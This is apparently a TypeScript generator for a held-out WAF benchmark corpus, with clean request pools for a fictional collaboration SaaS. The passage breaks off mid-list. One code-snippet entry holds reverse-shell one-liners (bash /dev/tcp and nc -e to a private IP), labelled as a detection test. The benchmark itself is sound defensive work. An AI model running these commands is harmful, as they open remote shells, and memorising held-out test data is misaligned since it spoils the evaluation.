/**
 * Deterministic generator of the THIRD held-out WAF API-profile corpora (session 5). Written before anyone tuned
 * on it, without looking at the WAF's code, and never edited to make a sample pass. Its domain differs from
 * generate.ts (generic), heldout.ts (support + shop) and heldout2.ts (developer platform + CI): an imaginary
 * collaboration SaaS ("Teamspace": issue tracker, wiki, chat) with a small shop/CMS side:
 * - `clean-heldout3.json`: issues whose titles start with a tool or a command, descriptions and comments in
 *   markdown with inline code and fenced blocks (shell, SQL, JS, Python, YAML, Dockerfile), wiki pages in the
 *   editor's storage HTML (tables, inline styles, images, embeds), chat messages (emoji, links, mentions, numbers
 *   and percentages, Slack-style `<@U…>` markup), prose with SQL- and shell-sounding words, JQL/CQL and free-text
 *   searches, JSON:API, merge-patch and json-patch writes, GraphQL with variables, NDJSON imports, forms,
 *   webhooks from other services, attachment metadata, automation rules and shop notification templates (smart
 *   values, Liquid), shop products, orders and CMS articles, non-English text (German, Spanish, Japanese,
 *   Russian and a few more), code snippets and file contents (the excluded fields);
 * - `attacks-heldout3.json`: SQLi, NoSQL operators, template injection, command injection (also the GitHub
 *   Actions style `$(…)`/backtick payload in an issue title), path traversal, SSRF, XSS, prototype pollution and
 *   Log4Shell as they would be sent to such an API: titles, markdown, wiki HTML, chat text, JQL, sort keys,
 *   JSON:API filters, patches, GraphQL variables and literals, NDJSON lines, forms, webhook and import URLs,
 *   attachment paths, automation templates, headers and cookies; nested, in keys, in arrays, `\u` escaped, as JSON
 *   inside a string, base64 and percent-encoded inside JSON.
 *
 * The code fields of this API (what a user would list in `exclude_fields`) are {@link HELDOUT3_EXCLUDE_FIELDS}:
 * a snippet's `code`, a file's `content` (also in a multi-file snippet and in the GraphQL snippet mutation).
 * Issue descriptions, comments, wiki pages and chat messages are deliberately NOT excluded: that is where prose
 * and embedded attacks meet. No attack uses an excluded field.
 *
 * Run: `node bench/waf/corpus/heldout3.ts` (writes both files next to this script; same output every run).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusRequest } from './generate.ts';

/** The third held-out API's code fields (snippet code, file contents, the GraphQL snippet mutation's code). */
export const HELDOUT3_EXCLUDE_FIELDS = [
  'body.code',
  'body.content',
  'body.files[].content',
  'body.variables.input.code',
];

/** mulberry32 (same as generate.ts, another seed). */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(0x7ea3_5ace);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
/** The i-th element, cycling: every pool item is used at least once when a loop runs past its length. */
const nth = <T>(xs: readonly T[], i: number): T => xs[i % xs.length] as T;
const json = (v: unknown): string => JSON.stringify(v);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
/** Percent-encoding as a browser form does it (spaces as `+`). */
const form = (fields: Record<string, string>): string =>
  Object.entries(fields)
    .map(([k, v]) => `${enc(k)}=${enc(v).replace(/%20/g, '+')}`)
    .join('&');
const hex = (n: number): string =>
  Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)] as string).join('');
/** JSON text with every non-alphanumeric ASCII character of string values written as a `\uXXXX` escape. */
const uescape = (v: unknown): string =>
  JSON.stringify(v).replace(/"((?:[^"\\]|\\.)*)"/g, (_m, s: string) => {
    const raw = JSON.parse(`"${s}"`) as string;
    const out = [...raw]
      .map((c) =>
        /[A-Za-z0-9 ]/.test(c) ? c : `\\u${(c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
      )
      .join('');
    return `"${out}"`;
  });

// ------------------------------------------------------------------------------------------------ headers

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
];
const SDKS = [
  'teamspace-python/2.4.1 (CPython 3.12.7; Linux)',
  '@teamspace/sdk/5.2.0 node/v24.1.0 linux x64',
  'teamspace-go/1.11.0 go1.23.4',
  'TeamspaceDesktop/4.41.2 Electron/33.2.0 (macOS 15.1)',
  'TeamspaceMobile/7.3.0 (iOS 18.1; iPhone15,2) Alamofire/5.10.1',
  'okhttp/4.12.0',
  'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4391',
  'Apache-HttpClient/5.3.1 (Java/21.0.5)',
  'Zapier',
  'n8n',
];
const CURLS = ['curl/8.11.0', 'curl/7.81.0', 'curl/8.5.0', 'HTTPie/3.2.4', 'Wget/1.21.4'];
const LANGS = [
  'en-US,en;q=0.9',
  'en-GB,en;q=0.9',
  'de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7',
  'es-ES,es;q=0.9,en;q=0.8',
  'ja-JP,ja;q=0.9,en-US;q=0.8',
  'ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7',
  'fr-FR,fr;q=0.9',
  'pt-BR,pt;q=0.9,en;q=0.8',
];
const REFERERS = [
  'browse/OPS-1423',
  'wiki/spaces/ENG/pages/884736/Runbook+Database+failover',
  'chat/C04DEPLOYS',
  'jira/software/projects/WEB/boards/12?selectedIssue=WEB-880',
  'shop/admin/products/8812',
  'issues/?jql=project%20%3D%20OPS%20ORDER%20BY%20created%20DESC',
  'cms/articles/412/edit',
];
const PAT = 'tsp_9Lk2QvX7mW0rT4nB8cZ1yH6pE3aD5fG';

/** Realistic request headers of one of the client kinds (`any`: browser, SDK or curl, drawn). */
function headers(
  ct: string | null,
  client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
  extra: Record<string, string> = {},
): Record<string, string> {
  const kind = client === 'any' ? pick(['browser', 'browser', 'sdk', 'sdk', 'curl'] as const) : client;
  const h: Record<string, string> = {};
  if (kind === 'browser') {
    const ua = pick(BROWSERS);
    h['user-agent'] = ua;
    h.accept = 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h['accept-encoding'] = 'gzip, deflate, br, zstd';
    h.origin = 'https://acme.teamspace.example.com';
    h.referer = `https://acme.teamspace.example.com/${pick(REFERERS)}`;
    h.cookie = `tsession=${hex(32)}; atl.xsrf.token=${hex(24)}_lin`;
    h['sec-fetch-site'] = 'same-origin';
    h['sec-fetch-mode'] = 'cors';
    if (ua.includes('Chrome/131'))
      h['sec-ch-ua'] = '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"';
  } else if (kind === 'sdk') {
    h['user-agent'] = pick(SDKS);
    h.accept = 'application/json';
    h.authorization = `Bearer ${PAT}`;
    if (rnd() < 0.4) h['x-request-id'] = `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`;
    if (rnd() < 0.2) h['idempotency-key'] = hex(32);
  } else if (kind === 'hook') {
    // A webhook sender: its own user agent and signature headers come in `extra`.
    h.accept = '*/*';
    h['user-agent'] = 'webhook-sender';
  } else {
    h['user-agent'] = pick(CURLS);
    h.accept = '*/*';
    h.authorization = `Basic ${b64(`${pick(['ana.silva', 'j.meyer', 'ops-bot', 'kenji.watanabe'])}@acme.example:${PAT}`)}`;
  }
  if (ct !== null) h['content-type'] = ct;
  return { ...h, ...extra };
}

// ------------------------------------------------------------------------------------------------ clean pools

const PROJECTS = ['OPS', 'WEB', 'MOB', 'DATA', 'SEC', 'HR', 'MKT', 'SHOP'];
const PEOPLE = [
  'Ana Silva',
  'Jonas Meyer',
  'Kenji Watanabe',
  'Olga Petrova',
  'María José García',
  "Siobhán O'Brien",
  'Tunde Bakare',
  'Priya Nair',
  'Lukas Gruber',
  'Chloé Dubois',
  'Wei Zhang',
  'Fatima Al-Sayed',
];
const HANDLES = [
  'ana',
  'jonas.meyer',
  'kenji',
  'olga_p',
  'mj.garcia',
  'siobhan',
  'tunde',
  'priya',
  'lukas.g',
];
const ISSUE_TITLES = [
  'npm install fails on Node 24 with ERESOLVE',
  'sudo prompt appears twice when running the installer',
  'python3 crashes on startup after upgrading to 3.13',
  'curl returns 403 behind corporate proxy',
  'git pull hangs forever on the monorepo',
  'docker compose up exits with code 137 on M3 Macs',
  'kubectl exec drops the connection after 5 minutes',
  'rm -rf node_modules did not fix the build',
  'pip install -r requirements.txt pulls the wrong numpy',
  'psql: FATAL: password authentication failed for user "app"',
  'SELECT on audit_log takes 40s since migration 0042',
  'Cron job runs twice when DST switches',
  'wget in Dockerfile fails with certificate error',
  'make test fails on macOS but not on Linux',
  'Export to CSV drops rows with commas in the title',
  'Dark mode: code blocks are unreadable',
  'Drag & drop of attachments > 25 MB silently fails',
  'Search for "C++" returns no results',
  "Can't @mention users whose name has an apostrophe (O'Brien)",
  "Bulk edit: 'Select all' only selects the first page",
  'Emoji reactions disappear after refresh 😢',
  'terraform plan shows drift on every run',
  'yarn build OOMs even with --max-old-space-size=4096',
  'ssh: connect to host git.acme.example port 22: Connection timed out',
  'echo $PATH differs between login and non-login shells',
  'Timeout when deleting a project with 10k+ issues',
  "Update the 'Getting started' page for v3",
  'brew upgrade breaks openssl linking for the CLI',
  'PowerShell: Invoke-WebRequest returns 401 against the API',
  'Node 24: fetch() ignores HTTPS_PROXY',
  'ping to the eu-west endpoint spikes to 300ms every hour',
  'Webhook retries flood our endpoint after an outage',
  'Allow <br> inside table cells on wiki pages',
  'Where do I find my API token?',
  "Import from CSV: custom field 'Story Points' mapped to null",
  'Login loop on Safari 18 with cross-site tracking prevention',
  'Add an OR filter to the board quick filters',
  'chmod +x is lost when files are uploaded through the web UI',
  'java -jar teamspace-agent.jar: UnsupportedClassVersionError',
  'Mobile: can’t scroll long comments on iOS 18.1',
  'Rate limit 429 when syncing more than 100 issues/min',
  'Update lodash to 4.17.21 (CVE-2021-23337)',
];
const ENVS = [
  '**Environment**: macOS 15.1, Node 24.1.0, CLI 3.8.2',
  '**Environment**: Ubuntu 24.04 LTS, Python 3.12.3, teamspace-python 2.4.1',
  '**Environment**: Windows 11 23H2, PowerShell 7.4.6',
  '**Environment**: Chrome 131 / Firefox 133, self-hosted 9.12.4 behind nginx',
  '**Environment**: k8s 1.31 (EKS), agent image `teamspace/agent:4.2.0`',
];
const LOGS = [
  'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@19.0.0\nnpm ERR! Could not resolve dependency:\nnpm ERR! peer react@"^18.0.0" from @acme/ui@2.3.1',
  'Traceback (most recent call last):\n  File "/usr/lib/python3.13/site-packages/teamspace/cli.py", line 88, in main\n    cfg = load_config(os.path.expanduser("~/.teamspace/config.toml"))\nKeyError: \'token\'',
  '* Connected to proxy.corp.local (10.20.0.5) port 3128\n> CONNECT api.teamspace.example.com:443 HTTP/1.1\n< HTTP/1.1 403 Forbidden\n< X-Squid-Error: ERR_ACCESS_DENIED 0\ncurl: (56) CONNECT tunnel failed, response 403',
  'ERROR:  canceling statement due to statement timeout\nSTATEMENT:  SELECT * FROM audit_log WHERE actor_id = $1 ORDER BY created_at DESC LIMIT 100',
  'web-1  | Killed\nweb-1 exited with code 137',
  'Exception in thread "main" java.lang.UnsupportedClassVersionError: com/teamspace/agent/Main has been compiled by a more recent version of the Java Runtime (class file version 65.0)\n\tat java.base/java.lang.ClassLoader.defineClass1(Native Method)',
  '2026/11/27 14:02:11 [error] 3121#3121: *8812 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 10.0.3.17, server: wiki.acme.local, request: "GET /rest/api/content/884736 HTTP/1.1"',
  "TypeError: Cannot read properties of undefined (reading 'map')\n    at IssueList (webpack-internal:///./src/IssueList.tsx:42:17)\n    at renderWithHooks (react-dom.development.js:16305:18)",
];
const STEPS = [
  ['Open any issue with more than 50 comments', 'Scroll to the bottom', 'Click **Load more**'],
  ['Run `npm ci` in a fresh clone', 'Run `npm run build`', 'Wait ~2 minutes'],
  ['Go to *Settings → Integrations*', 'Paste the webhook URL', 'Click **Test**'],
  ['Create a page in the ENG space', 'Insert a table with 3 columns', 'Paste a row from Excel'],
  ['Log in with SSO', 'Open the board', 'Switch to the "Done" column and back'],
];

/** Fenced code blocks as people paste them into comments (language tag, code). */
const FENCES: readonly (readonly [string, string])[] = [
  [
    'bash',
    'sudo systemctl restart teamspace-agent\njournalctl -u teamspace-agent --since "10 min ago" | grep -i error',
  ],
  ['sh', 'rm -rf node_modules package-lock.json && npm install'],
  [
    'bash',
    'curl -sS -H "Authorization: Bearer $TOKEN" https://api.teamspace.example.com/rest/api/3/myself | jq .',
  ],
  ['shell', "find . -name '*.log' -mtime +7 -delete"],
  ['bash', 'for f in exports/*.csv; do\n  wc -l "$f"\ndone'],
  ['bash', "ps aux | grep '[n]ode server.js' | awk '{print $2}' | xargs kill -9"],
  [
    'console',
    '$ export NODE_OPTIONS=--max-old-space-size=8192\n$ npm run build\n> webpack --mode production',
  ],
  [
    'sql',
    "SELECT id, key, summary\nFROM issues\nWHERE project_id = 42 AND status <> 'Done'\nORDER BY updated_at DESC\nLIMIT 50;",
  ],
  ['sql', "UPDATE users SET active = false WHERE last_login < now() - interval '2 years';"],
  [
    'sql',
    'DROP INDEX CONCURRENTLY IF EXISTS idx_issue_title_trgm;\nCREATE INDEX CONCURRENTLY idx_issue_title_trgm ON issues USING gin (title gin_trgm_ops);',
  ],
  [
    'sql',
    "SELECT pg_terminate_backend(pid)\nFROM pg_stat_activity\nWHERE state = 'idle in transaction'\n  AND now() - state_change > interval '10 minutes';",
  ],
  [
    'sql',
    "SELECT u.email, count(*) AS n\nFROM comments c JOIN users u ON u.id = c.author_id\nGROUP BY 1 HAVING count(*) > 100\nUNION ALL\nSELECT 'total', count(*) FROM comments;",
  ],
  [
    'js',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    'const res = await fetch(`${base}/rest/api/3/search?jql=${encodeURIComponent(jql)}`, { headers });\nif (!res.ok) throw new Error(await res.text());',
  ],
  [
    'javascript',
    "process.on('unhandledRejection', (err) => {\n  console.error(err);\n  process.exit(1);\n});",
  ],
  [
    'html',
    '<script src="https://cdn.teamspace.example.com/embed/v2.js" async></script>\n<div class="ts-embed" data-board="WEB"></div>',
  ],
  [
    'python',
    'import requests\n\nr = requests.get(url, auth=(user, token), timeout=10)\nr.raise_for_status()\nprint(r.json()["issues"][0]["key"])',
  ],
  [
    'python',
    'out = subprocess.run(["git", "rev-parse", "HEAD"], check=True, capture_output=True, text=True)\nsha = out.stdout.strip()',
  ],
  [
    'py',
    'with open("/tmp/export.json", encoding="utf-8") as f:\n    data = json.load(f)\nprint(len(data["pages"]))',
  ],
  [
    'yaml',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    'on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo "New issue #${{ github.event.issue.number }}"',
  ],
  ['yaml', 'resources:\n  requests:\n    cpu: 250m\n    memory: 512Mi\n  limits:\n    memory: 1Gi'],
  [
    'yaml',
    'services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    ports: ["5432:5432"]',
  ],
  [
    'dockerfile',
    'FROM node:24-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCOPY . .\nUSER node\nCMD ["node", "server.js"]',
  ],
  [
    'Dockerfile',
    'RUN apt-get update \\\n && apt-get install -y --no-install-recommends curl ca-certificates \\\n && rm -rf /var/lib/apt/lists/*',
  ],
  [
    'dockerfile',
    'RUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash - \\\n && apt-get install -y nodejs',
  ],
  ['nginx', 'location /api/ {\n    proxy_pass http://127.0.0.1:8080;\n    proxy_read_timeout 300s;\n}'],
];
const INLINE_CODE = [
  'Try `git config --global http.proxy http://proxy.corp.local:3128` and run it again.',
  'I ran `SELECT count(*) FROM issues WHERE resolution IS NULL;` and got 0, which is wrong.',
  '`kill -HUP $(cat /var/run/nginx.pid)` reloads the config without dropping connections.',
  'Setting `NODE_TLS_REJECT_UNAUTHORIZED=0` is NOT a fix, please use `NODE_EXTRA_CA_CERTS` instead.',
  'Works for me after `pip install --upgrade pip setuptools wheel`.',
  'The flag is `--dry-run`, not `-n`; see `teamspace-cli issues import --help`.',
  'You can check the token scopes with `curl -I -H "Authorization: Bearer …" …/myself`.',
  'Adding `|| true` after the `grep` stops the job from failing when nothing matches.',
  'We use `DELETE FROM sessions WHERE expires_at < now()` in the nightly job, that should be enough.',
  '`docker system prune -af` freed 38 GB on the runner 😅',
  'Please don’t `chmod 777` the data dir, `chown 1000:1000` is what the container expects.',
  'The regex `^[A-Z]+-\\d+$` matches issue keys; `[^a-z]` was the bug.',
];
const COMMENT_OPENERS = [
  'Thanks for the report!',
  'I can reproduce this on main.',
  'Same here since yesterday’s update.',
  'Looked into it a bit more:',
  "Here's what fixed it for me:",
  '+1, this blocks our migration.',
  'Quick update from the on-call side:',
  'Not sure this is related, but',
  'Closing as duplicate of OPS-1380 — see the workaround there.',
  'Root cause found 🎉',
];
const COMMENT_CLOSERS = [
  'Let me know if that helps.',
  'Will post an update tomorrow.',
  'cc @priya @lukas.g',
  "I'll open a PR against the docs.",
  '',
  'Full log attached (log.txt, 2.3 MB).',
  'Happy to pair on it if needed 🙂',
];

/** Prose with SQL- and shell-sounding words, as people write it. */
const WORDY_PROSE = [
  'The select committee will review the proposal on Thursday at 10:00.',
  "Let's drop the table from the agenda and revisit it next sprint.",
  'I need to sleep 8 hours before the on-call shift, back online at 9.',
  'Union members asked for the new rota before Friday; please update the table where we track the shifts.',
  'Kill the process before the deploy, otherwise port 8080 stays busy.',
  'Please select one option from the list and insert your name into the sign-up sheet.',
  'We should delete from the backlog everything older than a year, or update it where it still matters.',
  'Can someone exec into the pod and cat the config? I don’t have access to prod.',
  'Order by priority first, then by due date, and group by team.',
  'Drop me a line if you want to join the union of both teams’ roadmaps.',
  'If the build fails, or 1 of the tests is flaky again, just rerun it.',
  'The bash on Friday starts at 6pm — bring snacks & drinks!',
  'Ping me when you are back, then echo what Sarah said in the retro.',
  'Set an alert if CPU > 80% and free memory < 10% for 5 min.',
  'Rollback plan: revert to 3.17, restore the DB from the 02:00 snapshot, wait 10 minutes, then check the dashboards.',
  "Sales wants to convert trials into paid plans where the 'having issues' flag is false.",
  "The script for Monday's demo is in the shared drive; where is the table of contents?",
  'Shutdown of the old wiki is planned for 31 Jan; everything not migrated by then will be dropped.',
  'Exec summary: revenue up 12%, churn down 0.8 pp, NPS 41 (from 36).',
  'We need to truncate the intro of the onboarding guide, it is way too long.',
  "Please don't wait for me, join the call and start without me.",
  'Grant access to the finance space for the new hires (select group: finance-readers).',
  'Between 2 and 4 people can sign up for each slot; null responses count as "no".',
  'The admin panel and the user panel should look the same, or close to it.',
  'Is 1 = 1 meeting enough per week, or should we go back to two?',
];

const WIKI_TITLES = [
  'Runbook: Database failover',
  'Onboarding checklist (Engineering)',
  'Release notes 3.18',
  'Q4 OKRs — Platform team',
  'How we do code review',
  'Incident postmortem 2026-11-14: search outage',
  'Meeting notes: Architecture sync',
  'API style guide',
];
const WIKI_BODIES = [
  '<h2>Overview</h2><p>This runbook covers <strong>manual</strong> failover of the primary Postgres cluster. Use it only when <a href="https://acme.teamspace.example.com/wiki/spaces/ENG/pages/884700">automatic failover</a> did not trigger.</p><ol><li><p>Check replication lag: <code>SELECT now() - pg_last_xact_replay_timestamp();</code></p></li><li><p>Promote the replica: <code>pg_ctl promote -D /var/lib/postgresql/17/main</code></p></li><li><p>Update the DNS record and wait for the TTL (60 s).</p></li></ol><ac:structured-macro ac:name="info" ac:schema-version="1"><ac:rich-text-body><p>Page the DBA on call before step 2.</p></ac:rich-text-body></ac:structured-macro>',
  '<table class="confluenceTable" data-layout="default"><colgroup><col style="width: 240px;" /><col style="width: 480px;" /></colgroup><tbody><tr><th class="confluenceTh"><p>Day</p></th><th class="confluenceTh"><p>Task</p></th></tr><tr><td class="confluenceTd"><p>1</p></td><td class="confluenceTd"><p>Laptop, SSO, <a href="https://acme.teamspace.example.com/wiki/x/AbCd">VPN setup</a></p></td></tr><tr><td class="confluenceTd"><p>2</p></td><td class="confluenceTd"><p>Clone the repos, run <code>make bootstrap</code></p></td></tr><tr><td class="confluenceTd" style="background-color: rgb(227, 252, 239);"><p>5</p></td><td class="confluenceTd"><p>First PR merged 🎉</p></td></tr></tbody></table>',
  '<p><span style="color: rgb(255, 86, 48);"><strong>Breaking:</strong></span> the <code>/rest/api/2/search</code> endpoint is removed; use <code>/rest/api/3/search/jql</code>.</p><ul><li><p>New: JSON merge-patch on issues (<code>PATCH</code> with <code>application/merge-patch+json</code>)</p></li><li><p>Fixed: emoji in page titles broke the export (<a href="https://acme.teamspace.example.com/browse/WEB-880">WEB-880</a>)</p></li><li><p>Performance: p95 of board load down 35 % (from 1.4 s to 0.9 s)</p></li></ul><p><img src="/wiki/download/attachments/884736/board-timing.png?version=1&amp;api=v2" alt="Board load timing" width="720" height="300" /></p>',
  '<h1>Q4 OKRs</h1><table><tbody><tr><th>Objective</th><th>Key result</th><th>Status</th></tr><tr><td>Reliable search</td><td>p99 &lt; 300 ms for 95 % of queries</td><td><span style="background-color:#fffae6;">At risk</span></td></tr><tr><td>Faster onboarding</td><td>Time to first PR &lt;= 3 days</td><td><span style="background-color:#e3fcef;">On track</span></td></tr></tbody></table><p>Owner: <ac:link><ri:user ri:account-id="5b10ac8d82e05b22cc7d4ef5" /></ac:link></p>',
  '<p>Watch the 5-minute intro first:</p><p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0" width="560" height="315" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen="allowfullscreen"></iframe></p><h3>Rules of thumb</h3><ul><li>Review the <em>intent</em>, then the code.</li><li>Nitpicks start with <code>nit:</code>.</li><li>Approve with comments when only nits are left.</li></ul>',
  '<h2>Timeline (UTC)</h2><ul><li><time datetime="2026-11-14">14:02</time> alert <em>search-latency-p99 &gt; 2s</em> fired</li><li>14:09 on-call killed the stuck reindex job (<code>kill -TERM 48213</code>)</li><li>14:20 rolled back to 3.17.4</li><li>14:31 latency back to normal</li></ul><h2>Root cause</h2><p>A migration dropped the <code>issues_title_trgm</code> index, so every <code>LIKE \'%…%\'</code> search did a full table scan.</p><details><summary>Query plan</summary><pre><code class="language-sql">Seq Scan on issues  (cost=0.00..412881.20 rows=3 width=212)\n  Filter: (title ~~* \'%timeout%\'::text)</code></pre></details>',
  '<p><strong>Attendees:</strong> <a href="/people/ana">@Ana Silva</a>, <a href="/people/jonas.meyer">@Jonas Meyer</a>, <a href="/people/kenji">@Kenji Watanabe</a></p><p>Decisions:</p><ul data-type="taskList"><li data-type="taskItem" data-checked="true">Move the event bus to NATS</li><li data-type="taskItem" data-checked="false">Drop the legacy <code>exec</code> endpoint after 3.20</li></ul><p><iframe src="https://www.figma.com/embed?embed_host=teamspace&amp;url=https%3A%2F%2Fwww.figma.com%2Ffile%2FAbC123%2FArch" width="800" height="450" allowfullscreen></iframe></p>',
  '<h2>Naming</h2><p>Resources are plural nouns: <code>/issues</code>, <code>/pages</code>. Use <code>snake_case</code> in JSON. Filters use <code>filter[field]=value</code>, e.g. <a href="https://api.teamspace.example.com/v3/issues?filter%5Bstatus%5D=open&amp;sort=-updated">/v3/issues?filter[status]=open&amp;sort=-updated</a>.</p><blockquote><p>Be conservative in what you send, liberal in what you accept.</p></blockquote><p style="text-align: center;"><img src="https://cdn.teamspace.example.com/media/api-style.svg" alt="diagram" style="max-width:100%;" /></p>',
];
const CHAT_MESSAGES = [
  'Coverage 91.2% (+0.4%) on main 🎉',
  'p99 dropped 30% (from 120ms to 84ms) after the index change 🚀',
  '<@U04ANA123> can you review https://git.acme.example/acme/web/pull/3412 ? it’s the fix for WEB-880',
  'deploy of v3.18.2 to prod done ✅ error rate 0.02%, latency flat',
  'lunch? 🍕 12:30 <!here>',
  'FYI: staging DB will be down 14:00–14:30 UTC for the Postgres 17 upgrade',
  '+1 to dropping IE11 support 😅',
  'who broke the build? `make lint` fails on main since 10:42',
  '100% agree with @jonas.meyer on this one',
  ':shipit: merged, thanks all',
  'CPU at 95% on worker-3, restarting it now',
  '50% off promo code BLACKFRIDAY goes live at midnight CET 🛒',
  'see <https://acme.teamspace.example.com/browse/OPS-1423|OPS-1423> for the details',
  'moving this to <#C04DEPLOYS|deploys> 👉',
  "Q: is it 'select all' or 'select visible' in the bulk editor? customers are confused",
  'thread ↓ retro notes from today',
  'heads-up: rotating the API tokens on Monday, anything using `tsp_…` tokens needs updating',
  'queue depth 12k → 300 in 4 minutes after scaling to 6 consumers 📉',
  "it's 2am, I'm going to sleep. If prod burns, call me ☎️",
  'reminder: 1:1s are moved to Thursday this week',
  'ok so `git bisect` says it was a3f9c2e 🙃',
  'nice! 👏👏👏',
  'does anyone have the link to the Q3 deck? the one with the 18% → 23% conversion chart',
  'tests: 1,482 passed, 3 skipped, 0 failed (4m 12s)',
  '@here incident declared: search is returning 500s for ~15% of requests, bridge in #inc-2291',
  'status: resolved ✅ root cause was an expired cert on the LB, renewed at 09:14',
];
const I18N = [
  'Der Build schlägt fehl, sobald ich `npm ci` ausführe – Fehlermeldung siehe unten. Weiß jemand Rat?',
  'Bitte die Tabelle aus der Agenda streichen; wir besprechen das nächste Woche im Jour fixe.',
  'Kann jemand die Berechtigungen für den Bereich „Finanzen“ prüfen? Ich sehe nur 3 von 12 Seiten.',
  'Danke für die schnelle Hilfe! Läuft jetzt wieder, Latenz liegt bei ~80 ms.',
  'No puedo iniciar sesión desde ayer; el botón «Entrar» no hace nada en Safari.',
  '¿Alguien sabe por qué `docker compose up` tarda tanto en Windows? Son más de 5 minutos.',
  'Hemos bajado el tiempo de respuesta un 40 % (de 250 ms a 150 ms) tras el cambio de índice. ¡Gracias, equipo!',
  'Por favor, seleccionad una fecha para la reunión de la comisión antes del viernes.',
  'ログイン後にダッシュボードが真っ白になります。Chrome 131 で再現します。',
  '`pip install` がプロキシ環境で失敗します（SSL エラー）。回避策はありますか？',
  '検索結果に削除済みのページが表示されます。キャッシュの問題でしょうか？',
  'レビューありがとうございます！修正版を push しました 🙏',
  'После обновления до 3.18 поиск по вики не находит страницы на русском языке.',
  'Кто-нибудь может посмотреть запрос `SELECT * FROM pages WHERE space_id = 7`? Он выполняется 12 секунд.',
  'Спасибо! Перезапустил агент через `sudo systemctl restart teamspace-agent`, всё работает.',
  'Совещание перенесли на четверг, повестку обновил в таблице.',
  'Le déploiement de vendredi est annulé, on reporte à lundi 9h.',
  'O relatório de vendas do 3º trimestre está na pasta compartilhada (aumento de 12%).',
  'Il comando `rm -rf dist/` risolve il problema della cache, grazie!',
  '新版本的看板加载速度提升了 35%，太棒了！',
];
const SEARCHES = [
  'timeout',
  'select committee minutes',
  'how to drop a column in postgres',
  'curl 403 proxy',
  '<br> in table',
  "O'Reilly",
  'C# async await deadlock',
  '50% off',
  'docker run -it ubuntu bash',
  'kill -9 vs SIGTERM',
  'runbook failover',
  'union benefits 2026',
  '"password reset" email not received',
  'Straße',
  '検索',
  'поиск по вики',
  'sleep schedule on-call',
  'where is the VPN guide',
  'npm ERR! code ERESOLVE',
  'null pointer exception in import',
];
const JQLS = [
  'project = OPS AND status in ("In Progress", "To Do") ORDER BY updated DESC',
  'assignee = currentUser() AND resolution = Unresolved',
  'project = WEB AND text ~ "timeout" AND created >= -30d',
  'labels in (regression, customer-reported) AND priority >= High',
  'summary ~ "npm install" OR description ~ "ERESOLVE"',
  'project = SEC AND issuetype = Bug AND "Story Points[Number]" > 3',
  'sprint in openSprints() AND component is EMPTY',
  'reporter was "ana" AND status changed to Done after startOfWeek()',
];
const CQLS = [
  'type=page AND space=ENG AND title ~ "runbook"',
  'text ~ "select committee" AND lastmodified > now("-4w")',
  'label = "postmortem" ORDER BY created DESC',
  'creator = currentUser() AND type in (page, blogpost)',
];

const SNIPPET_CODE: readonly (readonly [string, string, string])[] = [
  [
    'Reverse shell check (for the pentest report)',
    'bash',
    '# detection rule test: this must be caught by the EDR\nbash -i >& /dev/tcp/10.0.0.99/4444 0>&1\nnc -e /bin/sh 10.0.0.99 4444',
  ],
  [
    'Find orphaned attachments',
    'sql',
    'SELECT a.id, a.filename FROM attachments a\nLEFT JOIN issues i ON i.id = a.issue_id\nWHERE i.id IS NULL\nUNION\nSELECT a.id, a.filename FROM attachments a WHERE a.size = 0;\n-- then: DELETE FROM attachments WHERE id IN (...);',
  ],
  [
    'XSS sanitizer test cases',
    'javascript',
